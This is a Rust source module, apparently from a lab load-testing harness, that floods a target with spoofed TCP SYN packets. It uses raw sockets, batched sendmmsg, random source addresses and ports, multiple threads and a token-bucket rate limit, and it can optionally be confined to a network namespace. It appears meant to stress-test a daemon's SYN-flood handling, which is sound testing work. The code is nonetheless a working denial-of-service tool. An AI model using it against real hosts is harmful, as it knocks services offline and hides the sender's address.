//! The sender: threads that write spoofed SYNs to a raw IPv4 or IPv6 socket
//! (`IPPROTO_RAW`, which on Linux implies `IP_HDRINCL` for both families:
//! the kernel sends our header as written and only routes it) in batches of `sendmmsg`, optionally paced
//! by a token bucket, until the duration ends or `stop` is set.
//!
//! Each thread enters the target's network namespace first (`--netns`), so
//! the packets are routed by that namespace's table: in a lab, onto the TUN
//! device and into the daemon, and nowhere else.

use super::packet::{MAX_SYN_LEN, OptionsMode, Syn, SynOptions, write_syn};
use super::prefix::SpoofPrefix;
use super::rate::TokenBucket;
use rustix::net::{
    AddressFamily, MMsgHdr, SendAncillaryBuffer, SendFlags, SocketType, ipproto, sendmmsg,
};
use smr::rng::SplitMix64;
use std::io::{self, IoSlice};
use std::net::{IpAddr, SocketAddr};
use std::os::fd::OwnedFd;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

/// What one flood does.
#[derive(Debug, Clone)]
pub struct FloodOpts {
    pub target: SocketAddr,
    /// Of the target's family.
    pub spoof: SpoofPrefix,
    pub options: OptionsMode,
    /// Packets per second over all threads; `None` = as fast as possible.
    pub rate: Option<u64>,
    pub duration: Duration,
    pub threads: usize,
    pub batch: usize,
    pub seed: u64,
    /// Network namespace (name under /run/netns) the sender threads enter.
    pub netns: Option<String>,
}

/// What a flood did.
#[derive(Debug, Clone, Default, serde::Serialize)]
pub struct FloodReport {
    /// SYNs the kernel accepted from us (a TUN queue that overflows drops
    /// some of them after this point; the daemon's counters tell).
    pub sent: u64,
    /// `sendmmsg` calls that failed with ENOBUFS/EAGAIN (backed off, retried).
    pub send_errors: u64,
    pub seconds: f64,
    pub pps: f64,
    pub threads: usize,
}

/// Run the flood to its end on `opts.threads` threads; blocks.
pub fn run(opts: &FloodOpts, stop: &AtomicBool) -> io::Result<FloodReport> {
    let threads = opts.threads.max(1);
    let start = Instant::now();
    let deadline = start + opts.duration;
    let results: Vec<io::Result<(u64, u64)>> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..threads)
            .map(|i| {
                std::thread::Builder::new()
                    .name(format!("syn-flood-{i}"))
                    .spawn_scoped(s, move || sender(opts, i, threads, deadline, stop))
            })
            .collect::<io::Result<_>>()?;
        Ok::<_, io::Error>(
            handles
                .into_iter()
                .map(|h| h.join().unwrap_or_else(|p| std::panic::resume_unwind(p)))
                .collect(),
        )
    })?;
    let seconds = start.elapsed().as_secs_f64();
    let mut report = FloodReport {
        threads,
        seconds,
        ..FloodReport::default()
    };
    for r in results {
        let (sent, errors) = r?;
        report.sent += sent;
        report.send_errors += errors;
    }
    report.pps = report.sent as f64 / seconds.max(1e-9);
    Ok(report)
}

/// Enter the named network namespace (`ip netns` name or path) on this
/// thread only.
pub fn enter_netns(name: &str) -> io::Result<()> {
    crate::load::netns::NetnsFd::open(name)?.enter()
}

fn raw_socket(target: IpAddr) -> io::Result<OwnedFd> {
    let (family, name) = match target {
        IpAddr::V4(_) => (AddressFamily::INET, "IPv4"),
        IpAddr::V6(_) => (AddressFamily::INET6, "IPv6"),
    };
    let fd = rustix::net::socket(family, SocketType::RAW, Some(ipproto::RAW)).map_err(|e| {
        io::Error::new(
            io::ErrorKind::PermissionDenied,
            format!("open a raw {name} socket: {e} (the flood needs root or CAP_NET_RAW)"),
        )
    })?;
    // Connected, so sendmmsg needs no address; the port is ignored for raw IP
    // (and must be 0 for IPv6, where it would name the protocol).
    rustix::net::connect(&fd, &SocketAddr::new(target, 0))
        .map_err(|e| io::Error::other(format!("route to {target}: {e}")))?;
    Ok(fd)
}

/// One sender thread; returns (SYNs sent, send errors).
fn sender(
    opts: &FloodOpts,
    index: usize,
    threads: usize,
    deadline: Instant,
    stop: &AtomicBool,
) -> io::Result<(u64, u64)> {
    if let Some(ns) = &opts.netns {
        enter_netns(ns)?;
    }
    let fd = raw_socket(opts.target.ip())?;
    let mut rng = SplitMix64::for_thread(opts.seed, index);
    let batch = opts.batch.clamp(1, 1024);
    let mut bufs = vec![[0u8; MAX_SYN_LEN]; batch];
    let mut lens = vec![0usize; batch];
    let origin = Instant::now();
    let mut bucket = opts.rate.map(|r| {
        let per_thread = (r as f64 / threads as f64).max(1.0);
        // 10 ms of credit: a sender descheduled for a few ms (the machine
        // is shared with the daemon) catches up instead of losing rate.
        let burst = (per_thread / 100.0).max(batch as f64) as u32;
        TokenBucket::new(per_thread, burst, Duration::ZERO)
    });
    let (mut sent, mut errors) = (0u64, 0u64);
    // Bounded: every pass either sends, sleeps, or ends at the deadline.
    loop {
        let now = Instant::now();
        // Relaxed: a stop request only needs to be seen eventually.
        if now >= deadline || stop.load(Ordering::Relaxed) {
            break;
        }
        let n = match &mut bucket {
            None => batch,
            Some(b) => {
                let n = b.take(now - origin, batch as u32) as usize;
                if n == 0 {
                    let wait = b
                        .wait_hint()
                        .clamp(Duration::from_micros(20), Duration::from_millis(10));
                    std::thread::sleep(wait.min(deadline.saturating_duration_since(now)));
                    continue;
                }
                n
            }
        };
        for (buf, len) in bufs.iter_mut().zip(lens.iter_mut()).take(n) {
            let syn = Syn {
                src: opts.spoof.random(&mut rng),
                dst: opts.target.ip(),
                src_port: 1024 + rng.below(65536 - 1024) as u16,
                dst_port: opts.target.port(),
                isn: rng.next_u32(),
                ip_id: rng.next_u32() as u16,
                window: 1024 + rng.below(65536 - 1024) as u16,
                options: SynOptions::draw(opts.options, &mut rng),
            };
            *len = write_syn(buf, &syn);
        }
        let iovs: Vec<[IoSlice<'_>; 1]> = bufs
            .iter()
            .zip(&lens)
            .take(n)
            .map(|(b, &l)| [IoSlice::new(&b[..l])])
            .collect();
        let mut controls: Vec<SendAncillaryBuffer<'_, '_, '_>> =
            (0..n).map(|_| SendAncillaryBuffer::default()).collect();
        let mut msgs: Vec<MMsgHdr<'_>> = iovs
            .iter()
            .zip(controls.iter_mut())
            .map(|(iov, control)| MMsgHdr::new(iov, control))
            .collect();
        match sendmmsg(&fd, &mut msgs, SendFlags::empty()) {
            Ok(k) => sent += k as u64,
            Err(rustix::io::Errno::NOBUFS | rustix::io::Errno::AGAIN) => {
                errors += 1;
                std::thread::sleep(Duration::from_micros(50));
            }
            Err(e) => {
                return Err(io::Error::other(format!(
                    "send SYNs to {}: {e}",
                    opts.target
                )));
            }
        }
    }
    Ok((sent, errors))
}
